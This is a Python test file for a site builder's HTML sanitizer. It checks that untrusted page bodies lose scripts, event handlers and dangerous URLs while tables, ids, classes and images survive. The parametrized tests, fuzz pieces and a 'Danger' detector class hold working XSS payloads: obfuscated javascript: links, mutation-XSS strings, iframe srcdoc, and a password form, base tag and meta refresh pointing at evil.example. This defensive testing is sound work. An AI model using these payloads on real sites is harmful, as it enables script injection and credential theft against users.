"""Bodies are untrusted: what may come out is known, whatever goes in."""

import re
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from confsync.errors import MalformedMarkdown
from confsync.model.ids import RelPath
from confsync.site.clean import clean
from confsync.site.links import Linker
from confsync.site.model import Meta, Source
from confsync.site.surroundings import Surroundings
from confsync.site.tree import grow

TREE = grow([Source(RelPath("index.md"), Meta(), "x")], lambda _: None, name="x")


def cleaned(html: str) -> str:
    linker = Linker(
        Surroundings(TREE, Path("/nonexistent"), Path("/nonexistent")), TREE.home, RelPath("index.md")
    )
    return clean(html, linker)[0]


class Danger(HTMLParser):
    """Collects everything that could act."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[str] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in {
            "script",
            "style",
            "iframe",
            "object",
            "embed",
            "form",
            "input",
            "button",
            "base",
            "meta",
            "link",
            "svg",
            "math",
        }:
            self.found.append(tag)
        for name, value in attrs:
            acts = name.startswith("on") or name in {"style", "srcdoc", "formaction", "srcset", "target"}
            if acts or (
                name in {"href", "src"}
                and re.match(r"\s*(javascript|data|vbscript|file):", value or "", re.IGNORECASE)
            ):
                self.found.append(f"{tag} {name}")


@pytest.mark.parametrize(
    "html",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        '<a href="java\tscript:alert(1)">x</a>',
        '<a href="&#106;avascript:alert(1)">x</a>',
        "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
        "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        '<p style="position:fixed">x</p>',
        '<form action="https://evil.example"><input name=password></form>',
        '<a title="<table onclick=alert(1) x=">y</a>',
        '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
        '<base href="https://evil.example/">',
        '<meta http-equiv="refresh" content="0;url=https://evil.example">',
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    ],
)
def test_nothing_that_acts_comes_out(html: str) -> None:
    assert not Danger(cleaned(html)).found


PIECES = st.sampled_from(
    [
        "<",
        ">",
        "</",
        "<a ",
        "<img ",
        "<table>",
        "<svg>",
        "<style>",
        "<script>",
        "</script>",
        "<math>",
        "href=",
        "src=",
        "onload=",
        "style=",
        "javascript:",
        "java\tscript:",
        "data:text/html,",
        "'",
        '"',
        "&#x6a;",
        "<!--",
        "-->",
        "<![CDATA[",
        "x",
        " ",
        "\x00",
        "alert(1)",
    ]
)


@given(st.lists(PIECES, max_size=25).map("".join))
def test_nothing_that_acts_comes_out_of_any_mixture(html: str) -> None:
    assert not Danger(cleaned(html)).found


def test_what_people_need_stays() -> None:
    html = '<table><tbody><tr><td colspan="2" rowspan="3">x</td></tr></tbody></table><details open=""><summary>s</summary><u>b</u></details>'
    assert cleaned(html) == html


def test_ids_stay_once_and_never_collide_with_the_frame() -> None:
    assert (
        cleaned('<p id="a">1</p><p id="a">2</p><p id="site:nav">3</p>') == '<p id="a">1</p><p>2</p><p>3</p>'
    )


def test_classes_of_the_frame_cannot_be_borrowed() -> None:
    assert cleaned('<p class="site-header status skip-link">x</p>') == '<p class="status">x</p>'


def test_text_colours_become_classes() -> None:
    assert cleaned('<span style="color: rgb(255, 0, 0)">x</span>') == '<span class="hue-red">x</span>'


def test_a_picture_that_says_nothing_of_itself_is_decoration(tmp_path: Path) -> None:
    (tmp_path / "a.png").write_bytes(b"x")
    linker = Linker(Surroundings(TREE, tmp_path, tmp_path), TREE.home, RelPath("index.md"))
    assert clean('<img src="a.png"><img src="a.png" alt="boat">', linker)[0] == (
        '<img alt="" src="a.png"><img src="a.png" alt="boat">'
    )


@pytest.mark.parametrize("html", ["<div>" * 100_000, "<b></i>" * 100_000, "<ul><li>" * 1000])
def test_what_is_nested_too_deeply_is_refused_at_once(html: str) -> None:
    with pytest.raises(MalformedMarkdown):
        cleaned(html)


def test_many_elements_side_by_side_are_fine() -> None:
    assert cleaned("<div>x</div>" * 1000 + "<ul>" + "<li>y" * 1000 + "</ul>").count("x") == 1000


def test_a_picture_that_is_nowhere_is_what_it_says_of_itself() -> None:
    assert cleaned('<img src="gone.png" alt="A &quot;boat&quot;" width="9">').endswith(
        '<span class="nothing">A &quot;boat&quot;</span>'
    )
    assert cleaned("<p>x<img src='javascript:x'></p>") == "<p>x</p>"
